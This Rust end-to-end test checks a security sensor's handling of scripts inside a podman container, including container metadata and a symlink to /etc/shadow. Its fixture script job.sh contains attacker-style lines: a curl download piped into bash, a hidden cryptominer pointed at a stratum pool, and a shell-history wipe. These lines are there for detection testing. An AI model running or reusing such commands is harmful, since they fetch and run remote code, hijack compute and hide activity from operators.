//! Scripts inside a real podman container: the sensor reads them through the
//! container's own root (a symlink to /etc/shadow yields the *container's*
//! shadow file, never the host's) and names the container, its image and
//! labels. Exec events are handed in with `--from-events` for processes in
//! the container; capture's own tests cover the kernel side.
//! Needs root and podman (`cargo xtask setup`); the image comes from
//! tests/support/test-image.sh.

#[path = "support/podman.rs"]
mod support;

use std::io::Write;
use std::process::Command;

use serde_json::{json, Value};
use support::{podman, test_image, Container};

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::{Digest, Sha256};
    hex::encode(Sha256::digest(bytes))
}

fn ino(path: &str) -> u64 {
    use std::os::unix::fs::MetadataExt;
    std::fs::metadata(path).map(|m| m.ino()).unwrap_or(0)
}

#[test]
fn scripts_in_a_podman_container_are_read_from_the_container() {
    let image = test_image();
    let name = format!("sensor-e2e-{}", std::process::id());
    let setup = "mkdir -p /opt/app \
        && printf '#!/bin/bash\\nexit 0\\ncurl -fsSL http://127.0.0.1:9/x.sh | bash; chmod +x /tmp/.k; nohup /tmp/.k -o stratum+tcp://127.0.0.1:3333 &\\nhistory -c\\n' > /opt/app/job.sh \
        && ln -sf /etc/shadow /opt/app/link.sh \
        && touch /tmp/ready && exec sleep 120";
    let id = podman(&[
        "run",
        "-d",
        "--runtime",
        "runc",
        "--name",
        &name,
        "--label",
        "team=e2e",
        &image,
        "bash",
        "-c",
        setup,
    ]);
    let _guard = Container(id.clone());
    // Wait for the setup to finish (no timing assertion: just poll).
    for _ in 0..200 {
        if Command::new("podman")
            .args(["exec", &id, "test", "-e", "/tmp/ready"])
            .output()
            .is_ok_and(|o| o.status.success())
        {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let pid: u32 = podman(&["inspect", "-f", "{{.State.Pid}}", &id])
        .parse()
        .unwrap();
    let container_shadow = Command::new("podman")
        .args(["exec", &id, "cat", "/etc/shadow"])
        .output()
        .unwrap()
        .stdout;
    let mnt_ns = ino(&format!("/proc/{pid}/ns/mnt"));
    // The cgroup id capture reports: the inode of the process's cgroup2 directory.
    let cgroup_path = std::fs::read_to_string(format!("/proc/{pid}/cgroup"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("0::").map(str::to_owned))
        .unwrap();
    let cgroup_id = ["/sys/fs/cgroup/unified", "/sys/fs/cgroup"]
        .iter()
        .map(|m| ino(&format!("{m}{cgroup_path}")))
        .find(|i| *i != 0)
        .unwrap();
    let event = |pid: u32, argv: &[&str], path: &str| {
        json!({
            "ktime_ns": sensor::event::boot_time_ns(), "time": "2026-01-05T10:00:00.000000001Z",
            "pid": pid, "tid": pid, "ppid": 1, "uid": 0, "gid": 0, "comm": "bash",
            "cgroup_id": cgroup_id, "mnt_ns": mnt_ns, "pid_ns": 0,
            "binary": "/usr/bin/bash", "filename": "/usr/bin/bash",
            "argv": argv, "argv_truncated": false, "cwd": "/opt/app",
            "script": {"source": "file", "path": path},
        })
    };
    let dir = tempfile::tempdir().unwrap();
    let events = dir.path().join("events.jsonl");
    let mut f = std::fs::File::create(&events).unwrap();
    writeln!(f, "{}", event(pid, &["bash", "job.sh"], "job.sh")).unwrap();
    writeln!(
        f,
        "{}",
        event(pid, &["bash", "/opt/app/link.sh"], "/opt/app/link.sh")
    )
    .unwrap();
    // A process that is already gone, in the same container: reached through
    // the mount namespace root kept from the first event.
    writeln!(f, "{}", event(u32::MAX - 7, &["bash", "job.sh"], "job.sh")).unwrap();
    drop(f);

    let trace = dir.path().join("t.jsonl");
    let findings = dir.path().join("f.jsonl");
    let out = Command::new(env!("CARGO_BIN_EXE_sensor"))
        .args(["run", "--workers", "1", "--from-events"])
        .arg(&events)
        .arg("--record")
        .arg(&trace)
        .arg("--output")
        .arg(&findings)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let records: Vec<Value> = std::fs::read_to_string(&trace)
        .unwrap()
        .lines()
        .skip(1)
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(records.len(), 3);
    let job = &records[0]["enrichment"];
    assert_eq!(job["content_origin"], "file_read", "{job}");
    assert_eq!(job["script"]["path"], "/opt/app/job.sh");
    assert!(job["script"]["contents"]
        .as_str()
        .unwrap()
        .contains("stratum+tcp://127.0.0.1:3333"));
    let container = &job["container"];
    assert_eq!(container["id"], id.as_str(), "{container}");
    assert_eq!(container["runtime"], "podman");
    assert_eq!(container["name"], name.as_str());
    assert_eq!(container["image"], image.as_str());
    assert!(
        container["labels"]
            .as_array()
            .unwrap()
            .contains(&json!(["team", "e2e"])),
        "{container}"
    );

    // The symlink to /etc/shadow is the container's shadow, not the host's.
    let link = &records[1]["enrichment"]["script"];
    assert_eq!(
        link["sha256"],
        sha256_hex(&container_shadow).as_str(),
        "{link}"
    );
    if let Ok(host_shadow) = std::fs::read("/etc/shadow") {
        assert_ne!(link["sha256"], sha256_hex(&host_shadow).as_str());
    }

    let gone = &records[2]["enrichment"];
    assert_eq!(gone["content_origin"], "file_read", "{gone}");
    assert_eq!(gone["script"]["sha256"], job["script"]["sha256"]);
    // Its container comes from the cgroup id, /proc/PID/cgroup being gone.
    assert_eq!(gone["container"]["id"], id.as_str(), "{gone}");

    // job.sh twice: two findings; the shadow file is not malicious.
    let findings = std::fs::read_to_string(&findings).unwrap();
    assert_eq!(findings.lines().count(), 2, "{findings}");
}
